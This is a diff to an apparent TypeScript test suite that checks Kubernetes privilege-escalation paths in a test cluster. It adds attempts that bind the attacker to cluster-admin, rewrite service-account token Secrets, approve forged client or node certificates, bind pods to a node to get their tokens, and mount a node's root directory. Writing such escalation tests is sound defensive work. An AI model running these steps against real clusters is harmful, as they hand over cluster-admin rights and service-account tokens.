@@ -41,6 +41,7 @@ const RBAC = 'rbac.authorization.k8s.io';
 const CERTIFICATES = 'certificates.k8s.io';
 const EVERYTHING: PolicyRule = { apiGroups: ['*'], resources: ['*'], verbs: ['*'] };
 const MERGE = 'application/merge-patch+json';
+const APPLY = 'application/apply-patch+yaml';
 export const AS_NODE: RequestOptions = { headers: { 'Impersonate-User': 'system:node:recorder', 'Impersonate-Group': 'system:nodes' } };
 const BOOTSTRAPPERS = 'system:bootstrappers:kubeadm:default-node-token';
 const CONTROLLER_MANAGER = 'system:kube-controller-manager';
@@ -148,21 +149,22 @@ interface Wanted {
   readonly approval?: EscalationRequest;
   /** How it is read, if not by get. */
   readonly reading?: EscalationRequest;
+  /** How it is asked for, if not by create alone. */
+  readonly asks?: (request: any) => Promise<boolean>;
 }
 
 /** A client certificate, which the attacker asks for; undefined where it does not get or see it. */
 export async function certificateFor(
-  attacker: Attacker, { user, group, signer, name = freshName('csr'), approval, reading }: Wanted,
+  attacker: Attacker, { user, group, signer, name = freshName('csr'), approval, reading, asks }: Wanted,
 ): Promise<RequestOptions | undefined> {
   const { certificate: request, key } = certificateRequest(user, group);
   const object = signingRequest(name, request, signer);
   const path = `${await pathOf(object)}/${name}`;
-  const asked = await attacker.request('POST', await pathOf(object), { body: object });
-  if (asked.status !== 201) { return undefined; }
+  if (!await (asks?.(object) ?? attacker.request('POST', await pathOf(object), { body: object }).then(({ status }) => status === 201))) { return undefined; }
   if (approval) {
     const conditions = [{ type: 'Approved', status: 'True', reason: 'x', message: 'x' }];
     const { status } = approval.verb === 'update'
-      ? await attacker.request('PUT', `${path}/approval`, { body: { ...asked.body, status: { conditions } } })
+      ? await attacker.request('PUT', `${path}/approval`, { body: { ...(await client.request('GET', path)).body, status: { conditions } } })
       : await attacker.request('PATCH', `${path}/approval`, { body: { status: { conditions } }, contentType: MERGE });
     if (status !== 200) { return undefined; }
   }
@@ -218,11 +220,11 @@ async function row({ attacker, uses: [{ verb, apiGroup, resource }] }: Use): Pro
   return found.attempts[verb](attacker);
 }
 
-const tokenSecret = (name: string, namespace = VICTIM): any => ({
+const tokenSecret = (name: string, namespace = VICTIM, account = PRIVILEGED): any => ({
   apiVersion: 'v1',
   kind: 'Secret',
   type: 'kubernetes.io/service-account-token',
-  metadata: { name, namespace, annotations: { 'kubernetes.io/service-account.name': PRIVILEGED } },
+  metadata: { name, namespace, annotations: { 'kubernetes.io/service-account.name': account } },
 });
 
 /** Whether the attacker sees a token in a Secret that reads the treasure. */
@@ -230,7 +232,35 @@ async function seesToken(attacker: Attacker, reading: EscalationRequest, name: s
   const path = `/api/v1/namespaces/${VICTIM}/secrets/${name}`;
   await until('the token is there', async () => (await client.request('GET', path)).body.data?.token !== undefined);
   const token = Buffer.from((await seen(attacker, reading, path))?.data?.token ?? '', 'base64').toString();
-  return token !== '' && reads({ token });
+  // A token that has just replaced another may not be known at once.
+  return token !== '' && eventually(() => reads({ token }));
+}
+
+/** Whether the Secret with the token of an account without permissions gets that of another, and the attacker sees it. */
+async function rewritesTokenSecret({ attacker, uses: [{ verb }, reading], name }: Use): Promise<boolean> {
+  await create({ apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name, namespace: VICTIM } });
+  const object = await create(tokenSecret(name, VICTIM, name));
+  const path = await pathOf(object, name);
+  await until('it has a token', async () => (await client.request('GET', path)).body.data?.token !== undefined);
+  const { metadata: { annotations } } = tokenSecret(name);
+  const change = { metadata: { annotations: { ...annotations, 'kubernetes.io/service-account.uid': null } }, data: null };
+  const { status } = await send(verb, tokenSecret(name), change, path, attacker);
+  return status === 200 && seesToken(attacker, reading, name);
+}
+
+/** Makes a Secret of another type, which the attacker may delete by some verb. @returns whether the attacker goes on, which it does not after it failed to delete it */
+export async function findsSecret({ attacker, name }: Use, verb?: string): Promise<boolean> {
+  const object = { apiVersion: 'v1', kind: 'Secret', metadata: { name, namespace: VICTIM } };
+  await create(object);
+  return verb === undefined || (await send(verb, object, {}, await pathOf(object, name), attacker)).status === 200;
+}
+
+/** An object that the attacker creates by a request that carries its name. */
+async function createsByName({ attacker, uses: [, { verb }] }: Use, object: any): Promise<boolean> {
+  const path = await pathOf(object, object.metadata.name);
+  const { status } = verb === 'update' ? await attacker.request('PUT', path, { body: object })
+    : await attacker.request('PATCH', `${path}?fieldManager=attacker`, { body: object, contentType: APPLY });
+  return status === 201;
 }
 
 /** A RoleBinding or ClusterRoleBinding that the attacker writes for itself; one to the same role is there where it only changes it. */
@@ -274,8 +304,10 @@ async function runsPrivilegedPod({ attacker, uses: [labelling] }: Use): Promise<
 }
 
 /** A pod that "restricted" lets in, and whose volume is the root directory of the node. */
-export async function mountsNodeVolume(attacker: Pick<Client, 'request'>, namespace = GUARDED): Promise<boolean> {
-  const name = freshName('volume');
+export async function mountsNodeVolume(
+  attacker: Pick<Client, 'request'>, namespace = GUARDED, name = freshName('volume'),
+  createsVolume = async (volume: any): Promise<boolean> => (await attacker.request('POST', await pathOf(volume), { body: volume })).status === 201,
+): Promise<boolean> {
   const volume = {
     apiVersion: 'v1',
     kind: 'PersistentVolume',
@@ -293,8 +325,8 @@ export async function mountsNodeVolume(attacker: Pick<Client, 'request'>, namesp
       volumes: [{ name: 'data', ephemeral: { volumeClaimTemplate: { spec: claim } } }],
     },
   };
-  const made = [await attacker.request('POST', await pathOf(volume), { body: volume }), await attacker.request('POST', await pathOf(object), { body: object })];
-  if (made.some(({ status }) => status !== 201)) { return false; }
+  const made = await createsVolume(volume);
+  if ((await attacker.request('POST', await pathOf(object), { body: object })).status !== 201 || !made) { return false; }
   return eventually(async () => (await client.request('GET', `/api/v1/namespaces/${namespace}/persistentvolumeclaims/${name}-data`)).body.status?.phase === 'Bound');
 }
 
@@ -397,6 +429,17 @@ async function doesAs(attacker: Attacker, { verb, resource }: EscalationRequest)
   }
 }
 
+/** Whether a node that the attacker chooses gets the token of a pod that waits. */
+async function assignsPod({ attacker, uses: [{ resource }], name }: Use): Promise<boolean> {
+  const { metadata: { uid } } = await create(pod(name, { nodeName: undefined }));
+  const token = (): Promise<string | undefined> => tokenOf(AS_NODE, VICTIM, PRIVILEGED, { boundObjectRef: { apiVersion: 'v1', kind: 'Pod', name, uid } });
+  if (await token() !== undefined) { throw new Error('the node gets a token of a pod that waits'); }
+  const body = { apiVersion: 'v1', kind: 'Binding', metadata: { name, namespace: VICTIM }, target: { apiVersion: 'v1', kind: 'Node', name: 'recorder' } };
+  const collection = `/api/v1/namespaces/${VICTIM}`;
+  const { status } = await attacker.request('POST', resource === 'bindings' ? `${collection}/bindings` : `${collection}/pods/${name}/binding`, { body });
+  return status === 201 && eventually(async () => await token() !== undefined);
+}
+
 const impersonated = (user: string, ...groups: readonly string[]): { readonly headers: { readonly [name: string]: string } } =>
   ({ headers: { 'Impersonate-User': user, ...groups.length === 0 ? {} : { 'Impersonate-Group': groups[0] } } });
 
@@ -459,15 +502,22 @@ export const EDGE_ATTEMPTS: { readonly [title: string]: EdgeAttempt } = {
       return status === 201 && seesToken(attacker, reading, object.metadata.name);
     },
   },
-  'apply-token-secret to written-secrets by the name of a new-secret': {
+  'write-secrets to written-secrets by the name of a new-object': {
     needsControllers: true,
-    name: fresh('applied'),
-    run: async ({ attacker, name }) => {
+    name: fresh('written'),
+    run: async ({ attacker, uses: [, reading], name }) => {
       const object = tokenSecret(name);
-      const { status } = await attacker.request('PATCH', `${await pathOf(object, name)}?fieldManager=attacker`, { body: object, contentType: 'application/apply-patch+yaml' });
-      return status === 201 && seesToken(attacker, { verb: 'patch', apiGroup: '', resource: 'secrets' }, name);
+      const { status } = await attacker.request('POST', await pathOf(object), { body: object });
+      return status === 201 && seesToken(attacker, reading, name);
     },
   },
+  'apply-token-secret to written-secrets by the name of a new-object': {
+    needsControllers: true,
+    name: fresh('applied'),
+    run: async use => await createsByName(use, tokenSecret(use.name)) && seesToken(use.attacker, use.uses[1], use.name),
+  },
+  'rewrite-token-secret to written-secrets': { needsControllers: true, name: fresh('rewritten'), run: rewritesTokenSecret },
+  'rewrite-token-secret to written-secrets by the name of a token-secret': { needsControllers: true, name: fresh('rewritten'), run: rewritesTokenSecret },
   'create-bootstrap-token to node': {
     needsControllers: true,
     namespace: SYSTEM,
@@ -522,30 +572,39 @@ export const EDGE_ATTEMPTS: { readonly [title: string]: EdgeAttempt } = {
   'constrained-impersonation to cluster-admin': { run: ({ attacker, uses }) => doesAs(attacker, uses[1]) },
   'constrained-impersonation to secrets in the cluster': { run: ({ attacker }) => reads({ ...attacker.credentials, headers: { 'Impersonate-User': 'system:node:recorder' } }) },
   'create-workloads to own-pod': { run: row },
+  'create-workloads to own-pod by the name of a new-object': {
+    name: fresh('applied'),
+    run: use => {
+      const { name, uses: [{ resource }] } = use;
+      const { spec } = pod(name);
+      return createsByName(use, resource === 'pods' ? pod(name)
+        : { apiVersion: 'batch/v1', kind: 'Job', metadata: { name, namespace: VICTIM }, spec: { template: { spec: { ...spec, restartPolicy: 'Never' } } } });
+    },
+  },
   'execute-in-pods to pods': { name: fresh('entered'), run: enters },
   'execute-in-pods to pods by the name of a pod': { name: fresh('entered'), run: enters },
   'attach-ephemeral-containers to pods': { name: fresh('entered'), run: addsContainer },
   'attach-ephemeral-containers to pods by the name of a pod': { name: fresh('entered'), run: addsContainer },
   'modify-pods to pods': { name: fresh('entered'), run: changesImage },
   'modify-pods to pods by the name of a pod': { name: fresh('entered'), run: changesImage },
-  'bind-pods-to-nodes to pods': {
-    run: async ({ attacker, uses: [{ resource }] }) => {
-      const waiting = await create(pod(freshName('waiting'), { nodeName: undefined }));
-      const { name, uid } = waiting.metadata;
-      const token = (): Promise<string | undefined> => tokenOf(AS_NODE, VICTIM, PRIVILEGED, { boundObjectRef: { apiVersion: 'v1', kind: 'Pod', name, uid } });
-      if (await token() !== undefined) { throw new Error('the node gets a token of a pod that waits'); }
-      const body = { apiVersion: 'v1', kind: 'Binding', metadata: { name, namespace: VICTIM }, target: { apiVersion: 'v1', kind: 'Node', name: 'recorder' } };
-      const collection = `/api/v1/namespaces/${VICTIM}`;
-      const { status } = await attacker.request('POST', resource === 'bindings' ? `${collection}/bindings` : `${collection}/pods/${name}/binding`, { body });
-      return status === 201 && eventually(async () => await token() !== undefined);
-    },
-  },
+  'bind-pods-to-nodes to pods': { name: fresh('waiting'), run: assignsPod },
+  'bind-pods-to-nodes to pods by the name of a pod': { name: fresh('waiting'), run: assignsPod },
   'bind-roles to administrator': {
     run: async use => await bindsItself(use, use.uses[0].verb, bindingOf('RoleBinding', freshName('bound'), 'cluster-admin', [subjectOf(use.attacker)]))
       && eventually(() => mayDoEverything(use.attacker.credentials, VICTIM)),
   },
   'bind-roles to cluster-admin in the cluster': {
     run: async use => await bindsItself(use, use.uses[0].verb, bindingOf('ClusterRoleBinding', freshName('bound'), 'cluster-admin', [subjectOf(use.attacker)]))
+      && eventually(() => mayDoEverything(use.attacker.credentials)),
+  },
+  'bind-roles to administrator by the name of a new-object': {
+    name: fresh('bound'),
+    run: async use => await createsByName(use, bindingOf('RoleBinding', use.name, 'cluster-admin', [subjectOf(use.attacker)]))
+      && eventually(() => mayDoEverything(use.attacker.credentials, VICTIM)),
+  },
+  'bind-roles to cluster-admin by the name of a new-object in the cluster': {
+    name: fresh('bound'),
+    run: async use => await createsByName(use, bindingOf('ClusterRoleBinding', use.name, 'cluster-admin', [subjectOf(use.attacker)]))
       && eventually(() => mayDoEverything(use.attacker.credentials)),
   },
   'bind-roles to accounts by the name of a role': bindsTreasureReader('RoleBinding'),
@@ -563,6 +622,17 @@ export const EDGE_ATTEMPTS: { readonly [title: string]: EdgeAttempt } = {
         && eventually(() => mayDoEverything(attacker.credentials, VICTIM));
     },
   },
+  'write-and-bind-roles to administrator by the name of a bound-role': {
+    name: fresh('own'),
+    run: async use => {
+      const { attacker, name, uses: [{ verb }, , binding] } = use;
+      const role = await create({ apiVersion: `${RBAC}/v1`, kind: 'Role', metadata: { name, namespace: VICTIM }, rules: [] });
+      const change = { rules: [EVERYTHING] };
+      const { status } = await send(verb, { ...role, ...change }, change, await pathOf(role, name), attacker);
+      return await bindsItself(use, binding.verb, bindingOf('RoleBinding', freshName('bound'), name, [subjectOf(attacker)], 'Role')) && status < 300
+        && eventually(() => mayDoEverything(attacker.credentials, VICTIM));
+    },
+  },
   'escalate-roles to administrator': { name: fresh('own'), roleName: name => name, run: use => escalates(use, 'Role', use.name, VICTIM) },
   'escalate-roles to administrator by the name of a held-role': { name: fresh('own'), roleName: name => name, run: use => escalates(use, 'Role', use.name, VICTIM) },
   'escalate-roles to cluster-admin in the cluster': { name: fresh('own'), roleName: name => name, run: use => escalates(use, 'ClusterRole', use.name) },
@@ -575,11 +645,29 @@ export const EDGE_ATTEMPTS: { readonly [title: string]: EdgeAttempt } = {
       return user !== undefined && becomesAdministrator(attacker, await tokenOf(user, SYSTEM, AGGREGATOR));
     },
   },
+  'approve-client-certificates to cluster-admin by the name of a new-object in the cluster': {
+    needsControllers: true,
+    name: fresh('csr'),
+    run: async use => {
+      const { attacker, uses, name } = use;
+      const user = await certificateFor(attacker, { name, user: CONTROLLER_MANAGER, signer: 'kube-apiserver-client', approval: uses[2], asks: request => createsByName(use, request) });
+      return user !== undefined && becomesAdministrator(attacker, await tokenOf(user, SYSTEM, AGGREGATOR));
+    },
+  },
   'approve-node-certificates to node in the cluster': {
     needsControllers: true,
     name: fresh('csr'),
     run: async ({ attacker, uses, name }) => {
       const node = await certificateFor(attacker, { name, user: 'system:node:recorder', group: 'system:nodes', signer: 'kube-apiserver-client-kubelet', approval: uses[1] });
+      return node !== undefined && reads(node);
+    },
+  },
+  'approve-node-certificates to node by the name of a new-object in the cluster': {
+    needsControllers: true,
+    name: fresh('csr'),
+    run: async use => {
+      const { attacker, uses, name } = use;
+      const node = await certificateFor(attacker, { name, user: 'system:node:recorder', group: 'system:nodes', signer: 'kube-apiserver-client-kubelet', approval: uses[2], asks: request => createsByName(use, request) });
       return node !== undefined && reads(node);
     },
   },
@@ -591,11 +679,23 @@ export const EDGE_ATTEMPTS: { readonly [title: string]: EdgeAttempt } = {
       return node !== undefined && reads(node);
     },
   },
+  'create-node-certificates to node by the name of a new-object in the cluster': {
+    needsControllers: true,
+    name: fresh('csr'),
+    run: async use => {
+      const { attacker, uses, name } = use;
+      const node = await certificateFor(attacker, { name, user: 'system:node:recorder', group: 'system:nodes', signer: 'kube-apiserver-client-kubelet', reading: uses[1], asks: request => createsByName(use, request) });
+      return node !== undefined && reads(node);
+    },
+  },
   'kubelet-api-access to nodes in the cluster': { needsOuterAddress: true, run: ({ attacker, uses: [{ verb }] }) => reachesKubelet(attacker, verb, freshName('node')) },
   'kubelet-api-access to node in the cluster': { needsOuterAddress: true, name: fresh('node'), run: ({ attacker, uses: [{ verb }], name }) => reachesKubelet(attacker, verb, name) },
   'modify-namespaces to node': { namespace: GUARDED, run: runsPrivilegedPod },
   'modify-namespaces to node by the name of a namespace': { namespace: GUARDED, name: () => GUARDED, run: runsPrivilegedPod },
   'create-persistent-volumes to node': { needsControllers: true, namespace: GUARDED, run: ({ attacker }) => mountsNodeVolume(attacker) },
+  'create-persistent-volumes to node by the name of a new-object': {
+    needsControllers: true, namespace: GUARDED, name: fresh('volume'), run: use => mountsNodeVolume(use.attacker, GUARDED, use.name, volume => createsByName(use, volume)),
+  },
   'modify-mutating-webhooks to cluster-admin in the cluster': { name: fresh('webhook'), run: mutatesByWebhook },
   'modify-mutating-policies to cluster-admin in the cluster': { name: fresh('policy'), run: mutatesByPolicy },
   'modify-csi-drivers to accounts in the cluster': { name: () => `${freshName('driver')}.example.com`, run: asksForTokens },
